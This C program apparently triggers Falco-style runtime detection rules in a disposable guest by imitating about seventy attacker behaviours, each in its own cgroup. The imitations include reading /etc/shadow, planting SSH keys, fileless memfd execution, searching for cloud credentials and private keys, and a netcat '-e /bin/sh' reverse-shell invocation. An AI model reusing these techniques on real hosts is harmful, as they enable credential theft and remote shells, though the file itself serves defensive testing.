/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Does, in a throw-away guest, small things that attackers do: one act a run, each in a cgroup of its own, so that alerts can be told
 * apart. An act in a container gets a cgroup as container runtimes name them. Programs that an act needs under a certain name are
 * this program under that name.
 *
 *   behave --list          number, c (in a container) or h (on the host), name of each act
 *   behave --run NAME      moves into the act's cgroup and does it
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/if_ether.h>
#include <linux/userfaultfd.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define WORK "/tmp/acts"
#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static void fail(const char *what)
{
	fprintf(stderr, "behave: %s: %s\n", what, strerror(errno));
	_exit(1);
}

/* --- pieces ---------------------------------------------------------------------------------------------------------------- */

static void write_file(const char *path, int flags, mode_t mode, const char *text)
{
	int fd = open(path, flags, mode);
	if (fd < 0)
		fail(path);
	if (text && write(fd, text, strlen(text)) < 0)
		fail(path);
	close(fd);
}

static void read_file(const char *path)
{
	char buf[64];
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		fail(path);
	if (read(fd, buf, sizeof(buf)) < 0 && errno != EISDIR)
		fail(path);
	close(fd);
}

static void copy_self(const char *to)
{
	char buf[65536];
	int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	ssize_t n;
	if (in < 0 || out < 0)
		fail(to);
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			fail(to);
	close(in);
	close(out);
}

/* Runs a program and waits for it; how it ends is not of interest. */
static void spawn(const char *path, char *const argv[], char *const env[])
{
	static char *const none[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin", NULL };
	pid_t pid = fork();
	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);
		dup2(null, 0);
		dup2(null, 1);
		dup2(null, 2);
		execve(path, argv, env ? env : none);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, NULL, 0) < 0)
		fail(path);
}

/* A name for this program: WORK/bin/NAME. Returns the path, which the next call overwrites. */
static const char *named(const char *name)
{
	static char path[128];
	snprintf(path, sizeof(path), WORK "/bin/%s", name);
	mkdir(WORK, 0755);
	mkdir(WORK "/bin", 0755);
	copy_self(path);
	return path;
}

/* Runs this program under another name; what it does then stands in its first argument, see deeds. */
#define SPAWN_AS(name, ...) spawn(named(name), (char *const[]){ name, __VA_ARGS__ __VA_OPT__(,) NULL }, NULL)

enum { NOBODY = 65534 };

static void become_nobody(void)
{
	if (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY))
		fail("nobody");
}

static int dial(int type, const char *ip, uint16_t port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0);
	if (fd < 0 || inet_pton(AF_INET, ip, &to.sin_addr) != 1)
		fail("socket");
	if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS)
		fail("connect");
	return fd;
}

static void dial_and_close(int type, const char *ip, uint16_t port)
{
	close(dial(type, ip, port));
}

/* --- what this program does under another name -------------------------------------------------------------------------------- */

static void deed_listen(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(7777) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "10.0.2.15", &at.sin_addr);
	if (fd < 0 || bind(fd, (const struct sockaddr *)&at, sizeof(at)) || listen(fd, 1))
		fail("listen");
	close(fd);
}

static void deed_receive(void)
{
	static const unsigned char class_file[] = { 0xca, 0xfe, 0xba, 0xbe };
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t n = sizeof(at);
	char buf[16];
	int in = socket(AF_INET, SOCK_DGRAM, 0), out = socket(AF_INET, SOCK_DGRAM, 0);
	if (in < 0 || out < 0 || bind(in, (const struct sockaddr *)&at, sizeof(at)) || getsockname(in, (struct sockaddr *)&at, &n))
		fail("receive");
	if (sendto(out, class_file, sizeof(class_file), 0, (const struct sockaddr *)&at, sizeof(at)) < 0 || recvfrom(in, buf, sizeof(buf), 0, NULL, NULL) < 0)
		fail("receive");
}

static void deed_ssh(void) { dial_and_close(SOCK_STREAM, "93.184.216.34", 443); }
static void deed_lookup(void) { dial_and_close(SOCK_DGRAM, "93.184.216.34", 53); }
static void deed_udp(void) { dial_and_close(SOCK_DGRAM, "10.2.3.4", 8192); }
static void deed_odd_port(void) { dial_and_close(SOCK_DGRAM, "93.184.216.34", 22); }
static void deed_shell(void) { spawn("/bin/sh", (char *const[]){ "sh", "-c", "ls > /dev/null", NULL }, NULL); }
static void deed_ls(void) { spawn("/bin/ls", (char *const[]){ "ls", NULL }, NULL); }
static void deed_shadow(void) { read_file("/etc/shadow"); }

static void deed_late_shadow(void)
{
	nanosleep(&(struct timespec){ .tv_sec = 6 }, NULL);
	read_file("/etc/shadow");
}

static void deed_setuid(void)
{
	if (setuid(NOBODY))
		fail("setuid");
	(void)!setuid(0); /* the attempt is what counts */
}

static void deed_userfaultfd(void)
{
	become_nobody();
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC); /* refused to ordinary users by default */
	if (fd >= 0)
		close((int)fd);
}

static const struct {
	const char *word;
	void (*run)(void);
} deeds[] = {
	{ "+listen", deed_listen }, { "+receive", deed_receive }, { "+ssh", deed_ssh }, { "+lookup", deed_lookup }, { "+udp", deed_udp },
	{ "+odd-port", deed_odd_port }, { "+shell", deed_shell }, { "+ls", deed_ls }, { "+shadow", deed_shadow },
	{ "+late-shadow", deed_late_shadow }, { "+setuid", deed_setuid }, { "+userfaultfd", deed_userfaultfd },
};

/* --- the acts ------------------------------------------------------------------------------------------------------------------- */

static void act_authorized_keys(void)
{
	mkdir("/home/act", 0755);
	mkdir("/home/act/.ssh", 0700);
	write_file("/home/act/.ssh/authorized_keys", O_WRONLY | O_CREAT, 0600, "ssh-ed25519 AAAA\n");
}

static void act_unshare(void)
{
	become_nobody();
	if (unshare(0))
		fail("unshare");
}

static void act_setns(void) { (void)!setns(0, 0); }
static void act_clear_log(void) { write_file(WORK "/syslog", O_WRONLY | O_CREAT | O_TRUNC, 0644, NULL); }
static void act_metadata(void) { dial_and_close(SOCK_STREAM, "169.254.169.254", 80); }

static void act_drift_chmod(void)
{
	write_file(WORK "/drift", O_WRONLY | O_CREAT, 0644, NULL);
	if (chmod(WORK "/drift", 0755))
		fail("chmod");
}

static void act_drift_create(void) { write_file(WORK "/drift2", O_WRONLY | O_CREAT, 0755, NULL); }

/* What acts leave behind, the script removes: removing is an act of its own. */
static void act_below_dev(void) { write_file("/dev/act-0815", O_WRONLY | O_CREAT, 0644, "x"); }

static void act_hardlink(void)
{
	if (linkat(AT_FDCWD, "/etc/shadow", AT_FDCWD, "/etc/act-link", 0))
		fail("link");
}

static void act_hidden(void) { mkdir(WORK "/.hidden", 0755); }

static void act_symlink(void)
{
	if (symlinkat("/etc", AT_FDCWD, WORK "/etc_link"))
		fail("symlink");
}

static void act_database(void) { SPAWN_AS("mysqld", "+ls"); }
static void act_debugfs(void) { SPAWN_AS("debugfs", "-V"); }
static void act_decode(void) { spawn("/bin/echo", (char *const[]){ "echo", "base64", "-d", NULL }, NULL); }

static void act_history(void)
{
	write_file(WORK "/ash_history", O_WRONLY | O_CREAT, 0600, "ls\n");
	unlink(WORK "/ash_history");
}

static void act_stratum(void) { spawn("/bin/echo", (char *const[]){ "echo", "stratum+tcp://192.0.2.7:3333", NULL }, NULL); }
static void act_release_agent(void) { spawn("/bin/sh", (char *const[]){ "sh", "-c", "echo x > " WORK "/release_agent", NULL }, NULL); }

/* In a child: the rule leaves out what shells start, as the one that runs the acts did with this process. */
static void act_traversal(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		read_file("/etc/../etc/../etc/shadow");
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, NULL, 0) < 0)
		fail("fork");
}

static void act_ssh_port(void) { SPAWN_AS("ssh", "+ssh", "user@example.com", "-p", "443"); }

/* A program that is not of the image: in the upper layer of an overlay. */
static void act_drop_and_execute(void)
{
	mkdir(WORK "/layers", 0755);
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) || mount("tmpfs", WORK "/layers", "tmpfs", 0, NULL))
		fail("mount");
	mkdir(WORK "/layers/lower", 0755);
	mkdir(WORK "/layers/upper", 0755);
	mkdir(WORK "/layers/work", 0755);
	mkdir(WORK "/layers/bin", 0755);
	if (mount("overlay", WORK "/layers/bin", "overlay", 0, "lowerdir=" WORK "/layers/lower,upperdir=" WORK "/layers/upper,workdir=" WORK "/layers/work"))
		fail("overlay");
	copy_self(WORK "/layers/bin/dropped");
	spawn(WORK "/layers/bin/dropped", (char *const[]){ "dropped", NULL }, NULL);
}

static void act_dev_shm(void)
{
	write_file("/dev/shm/act.sh", O_WRONLY | O_CREAT | O_TRUNC, 0755, "#!/bin/sh\nexit 0\n");
	spawn("/bin/sh", (char *const[]){ "sh", "-c", "/dev/shm/act.sh", NULL }, NULL);
}

static void act_memfd(void)
{
	char path[64];
	int fd = memfd_create("act", 0);
	if (fd < 0)
		fail("memfd");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	copy_self(path);
	spawn(path, (char *const[]){ "act", NULL }, NULL);
}

static void act_find_aws(void) { SPAWN_AS("find", WORK, "-maxdepth", "1", "-iname", ".aws/credentials"); }
static void act_lua_in(void) { SPAWN_AS("lua", "+listen"); }
static void act_lua_out(void) { SPAWN_AS("lua", "+lookup"); }
static void act_java(void) { SPAWN_AS("java", "+receive"); }
static void act_kubectl(void) { SPAWN_AS("kubectl", "get"); }
static void act_wget(void) { SPAWN_AS("wget", "-V"); }
static void act_apt(void) { SPAWN_AS("apt-get", "--version"); }
static void act_scp(void) { SPAWN_AS("scp"); }
static void act_nmap(void) { SPAWN_AS("nmap", "-sn", "192.168.1.0/24"); }

static void act_mkdir_bin(void)
{
	if (mkdir("/bin/act-0815", 0755))
		fail("/bin/act-0815");
}

static void act_rename_bin(void)
{
	if (rename("/bin/true", "/bin/act-true") || rename("/bin/act-true", "/bin/true"))
		fail("/bin/true");
}

static void act_entrypoint(void)
{
	write_file(WORK "/entry", O_WRONLY | O_CREAT, 0644, NULL);
	int fd = open(WORK "/entry", O_WRONLY);
	if (dup2(fd, 1) < 0)
		fail("dup2");
	write_file("/proc/self/fd/1", O_WRONLY, 0, NULL);
}

static void act_shell_config(void) { write_file(WORK "/.bashrc", O_WRONLY | O_CREAT, 0644, "true\n"); }
static void act_mount(void) { SPAWN_AS("mount", "-o"); }
static void act_netcat(void) { SPAWN_AS("nc", "-e", "/bin/sh", "example.com", "22"); }
static void act_setuid(void) { SPAWN_AS("child", "+setuid"); }

static void act_packet_socket(void)
{
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (fd < 0)
		fail("socket");
	close(fd);
}

/* Prepared while still root. */
static void spawn_as_nobody(const char *name, char *const argv[])
{
	const char *path = named(name);
	become_nobody();
	spawn(path, argv, NULL);
}

static void act_pkexec(void) { spawn_as_nobody("pkexec", (char *const[]){ "pkexec", NULL }); }
static void act_tunables(void) { spawn("/bin/sh", (char *const[]){ "sh", "-c", "id", NULL }, (char *const[]){ "GLIBC_TUNABLES=glibc.malloc.mxfast=x", NULL }); }
static void act_proxy(void) { spawn(named("curl"), (char *const[]){ "curl", "http://example.com", NULL }, (char *const[]){ "HTTP_PROXY=http://192.0.2.9:3128", NULL }); }

static void act_traceme(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

static void act_attach(void)
{
	pid_t pid = fork();
	if (pid == 0) {
		pause();
		_exit(0);
	}
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) || waitpid(pid, NULL, 0) < 0 || ptrace(PTRACE_DETACH, pid, NULL, NULL))
		fail("ptrace");
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void act_environ(void) { read_file("/proc/self/environ"); }
static void act_late_shadow(void) { SPAWN_AS("httpd", "+late-shadow"); }
static void act_shadow(void) { read_file("/etc/shadow"); }

static void act_read_shell_config(void)
{
	write_file(WORK "/.bashrc", O_WRONLY | O_CREAT, 0644, NULL);
	read_file(WORK "/.bashrc");
}

static void act_known_hosts(void)
{
	mkdir("/home/act", 0755);
	mkdir("/home/act/.ssh", 0700);
	write_file("/home/act/.ssh/known_hosts", O_RDWR | O_CREAT, 0600, NULL);
}

static void act_shred(void) { SPAWN_AS("shred", "-u", WORK "/victim"); }
static void act_web_shell(void) { SPAWN_AS("httpd", "+shell"); }
static void act_crontab(void) { SPAWN_AS("crontab", "-l"); }
static void act_find_key(void) { SPAWN_AS("find", WORK, "-maxdepth", "1", "-iname", "id_rsa"); }

static void act_setuid_bit(void)
{
	write_file(WORK "/setuid", O_WRONLY | O_CREAT, 0755, NULL);
	if (chmod(WORK "/setuid", 04755))
		fail("chmod");
}

static void act_sudoedit(void) { spawn_as_nobody("sudoedit", (char *const[]){ "sudoedit", "-u", "nobody", "-s", "ls\\", NULL }); }
static void act_system_network(void) { SPAWN_AS("sha1sum", "+udp"); }
static void act_login(void) { spawn_as_nobody("login", (char *const[]){ "login", NULL }); }
static void act_odd_udp(void) { SPAWN_AS("sender", "+odd-port"); }
static void act_userfaultfd(void) { SPAWN_AS("child", "+userfaultfd"); }
static void act_user_management(void) { SPAWN_AS("vipw", "+ls"); }

static void create(const char *path) { write_file(path, O_WRONLY | O_CREAT, 0644, "x"); }
static void act_write_bin(void) { create("/bin/act-0816"); }
static void act_write_etc(void) { create("/etc/act-0816"); }
static void act_write_monitored(void) { create("/lib/act-0816"); }
static void act_write_root(void) { create("/root/act-0816"); }

static void act_write_rpm(void)
{
	mkdir("/var", 0755);
	mkdir("/var/lib", 0755);
	mkdir("/var/lib/rpm", 0755);
	create("/var/lib/rpm/act-0816");
}

static void act_nothing(void) {}

static const struct act {
	const char *name;
	bool is_contained;
	void (*run)(void);
} acts[] = {
	{ "Nothing", false, act_nothing },
	{ "NothingInContainer", true, act_nothing },
	{ "AddingSshKeysToAuthorizedKeys", false, act_authorized_keys },
	{ "ChangeNamespacePrivilegesViaUnshare", true, act_unshare },
	{ "ChangeThreadNamespace", false, act_setns },
	{ "ClearLogActivities", false, act_clear_log },
	{ "ContactEC2InstanceMetadataServiceFromContainer", true, act_metadata },
	{ "ContainerDriftDetectedChmod", true, act_drift_chmod },
	{ "ContainerDriftDetectedOpenCreate", true, act_drift_create },
	{ "CreateFilesBelowDev", false, act_below_dev },
	{ "CreateHardlinkOverSensitiveFiles", false, act_hardlink },
	{ "CreateHiddenFilesOrDirectories", false, act_hidden },
	{ "CreateSymlinkOverSensitiveFiles", false, act_symlink },
	{ "DbProgramSpawnedProcess", false, act_database },
	{ "DebugfsLaunchedInPrivilegedContainer", true, act_debugfs },
	{ "DecodingPayloadInContainer", true, act_decode },
	{ "DeleteOrRenameShellHistory", false, act_history },
	{ "DetectCryptoMinersUsingTheStratumProtocol", false, act_stratum },
	{ "DetectReleaseAgentFileContainerEscapes", true, act_release_agent },
	{ "DirectoryTraversalMonitoredFileRead", false, act_traversal },
	{ "DisallowedSSHConnectionNonStandardPort", false, act_ssh_port },
	{ "DropAndExecuteNewBinaryInContainer", true, act_drop_and_execute },
	{ "ExecutionFromDevShm", false, act_dev_shm },
	{ "FilelessExecutionViaMemfdCreate", false, act_memfd },
	{ "FindAwsCredentials", false, act_find_aws },
	{ "InterpretedProcsInboundNetworkActivity", false, act_lua_in },
	{ "InterpretedProcsOutboundNetworkActivity", false, act_lua_out },
	{ "JavaProcessClassFileDownload", false, act_java },
	{ "KubernetesClientToolLaunchedInContainer", true, act_kubectl },
	{ "LaunchIngressRemoteFileCopyToolsInContainer", true, act_wget },
	{ "LaunchPackageManagementProcessInContainer", true, act_apt },
	{ "LaunchRemoteFileCopyToolsInContainer", true, act_scp },
	{ "LaunchSuspiciousNetworkToolInContainer", true, act_nmap },
	{ "LaunchSuspiciousNetworkToolOnHost", false, act_nmap },
	{ "MkdirBinaryDirs", false, act_mkdir_bin },
	{ "ModifyBinaryDirs", false, act_rename_bin },
	{ "ModifyContainerEntrypoint", true, act_entrypoint },
	{ "ModifyShellConfigurationFile", false, act_shell_config },
	{ "MountLaunchedInPrivilegedContainer", true, act_mount },
	{ "NetcatRemoteCodeExecutionInContainer", true, act_netcat },
	{ "NonSudoSetuid", false, act_setuid },
	{ "PacketSocketCreatedInContainer", true, act_packet_socket },
	{ "PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034", false, act_pkexec },
	{ "PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse", false, act_tunables },
	{ "ProgramRunWithDisallowedHttpProxyEnv", false, act_proxy },
	{ "PtraceAntiDebugAttempt", false, act_traceme },
	{ "PtraceAttachedToProcess", false, act_attach },
	{ "ReadEnvironmentVariableFromProcFiles", true, act_environ },
	{ "ReadSensitiveFileTrustedAfterStartup", false, act_late_shadow },
	{ "ReadSensitiveFileUntrusted", false, act_shadow },
	{ "ReadShellConfigurationFile", false, act_read_shell_config },
	{ "ReadSshInformation", false, act_known_hosts },
	{ "RemoveBulkDataFromDisk", false, act_shred },
	{ "RunShellUntrusted", false, act_web_shell },
	{ "ScheduleCronJobs", false, act_crontab },
	{ "SearchPrivateKeysOrPasswords", false, act_find_key },
	{ "SetSetuidOrSetgidBit", false, act_setuid_bit },
	{ "SudoPotentialPrivilegeEscalation", false, act_sudoedit },
	{ "SystemProcsNetworkActivity", false, act_system_network },
	{ "SystemUserInteractive", false, act_login },
	{ "UnexpectedUDPTraffic", false, act_odd_udp },
	{ "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess", false, act_userfaultfd },
	{ "UserMgmtBinaries", false, act_user_management },
	{ "WriteBelowBinaryDir", false, act_write_bin },
	{ "WriteBelowEtc", false, act_write_etc },
	{ "WriteBelowMonitoredDir", false, act_write_monitored },
	{ "WriteBelowRoot", false, act_write_root },
	{ "WriteBelowRpmDatabase", false, act_write_rpm },
};

/* --- the whole ------------------------------------------------------------------------------------------------------------------ */

static void enter_cgroup(size_t i)
{
	char path[256];
	mkdir("/sys/fs/cgroup/acts", 0755);
	mkdir("/sys/fs/cgroup/docker", 0755);
	snprintf(path, sizeof(path), acts[i].is_contained ? "/sys/fs/cgroup/docker/%064zx" : "/sys/fs/cgroup/acts/%zu", i);
	if (mkdir(path, 0755) && errno != EEXIST)
		fail(path);
	strncat(path, "/cgroup.procs", sizeof(path) - strlen(path) - 1);
	write_file(path, O_WRONLY, 0, "0");
}

static const struct act *find_act(const char *name)
{
	for (size_t i = 0; i < ARRAY_SIZE(acts); i++)
		if (strcmp(acts[i].name, name) == 0)
			return &acts[i];
	fprintf(stderr, "behave: no act '%s'\n", name);
	exit(2);
}

/* As a container's runtime does: into the cgroup, then the program. */
static int run_act(char **argv)
{
	const struct act *act = find_act(argv[2]);
	mkdir(WORK, 0777);
	enter_cgroup((size_t)(act - acts));
	execv("/proc/self/exe", (char *const[]){ argv[0], "--act", argv[2], NULL });
	fail("exec");
	return 1;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "--list") == 0) {
		for (size_t i = 0; i < ARRAY_SIZE(acts); i++)
			printf("%zu %c %s\n", i, acts[i].is_contained ? 'c' : 'h', acts[i].name);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "--run") == 0)
		return run_act(argv);
	if (argc == 3 && strcmp(argv[1], "--act") == 0) {
		prctl(PR_SET_NAME, "act"); /* after exec of /proc/self/exe it is exe, which Falco's rules take for a part of docker */
		find_act(argv[2])->run();
		return 0;
	}
	for (size_t i = 0; argc > 1 && i < ARRAY_SIZE(deeds); i++)
		if (strcmp(argv[1], deeds[i].word) == 0)
			deeds[i].run();
	return 0; /* under a name of another program: being started was all */
}
